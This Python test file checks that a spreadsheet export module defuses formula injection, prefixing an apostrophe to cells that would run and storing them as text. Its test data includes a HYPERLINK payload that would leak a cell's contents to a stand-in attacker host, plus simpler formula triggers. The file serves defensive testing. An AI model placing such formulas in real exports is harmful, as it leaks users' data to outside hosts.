"""Exports made inert: what a spreadsheet would run as a formula is kept as text."""

import io

from openpyxl import Workbook, load_workbook

from citeduc.common.cells import append, inert, inert_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_csv_cell_that_would_run_gets_an_apostrophe() -> None:
    for attack in ATTACKS:
        assert inert(attack) == "'" + attack
    # Numbers, signed numbers written as text, and ordinary texts are left as they are.
    assert inert_row([12, -3, "-12", "+3,5", "Atelier « =citoyen »", "", None]) == [
        12,
        -3,
        "-12",
        "+3,5",
        "Atelier « =citoyen »",
        "",
        None,
    ]


def test_a_spreadsheet_cell_keeps_the_text_and_is_no_formula() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append(sheet, ["Titre", "Montant"])
    for attack in ATTACKS:
        append(sheet, [attack, -5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    rows = list(read.iter_rows(min_row=2))
    # A CR or a tab at the start of a shared string is normalised away by the format itself;
    # what matters is that no cell is stored as a formula.
    assert [row[0].data_type for row in rows] == ["s"] * len(ATTACKS)
    assert rows[0][0].value == ATTACKS[0]
    assert [row[1].value for row in rows] == [-5] * len(ATTACKS)
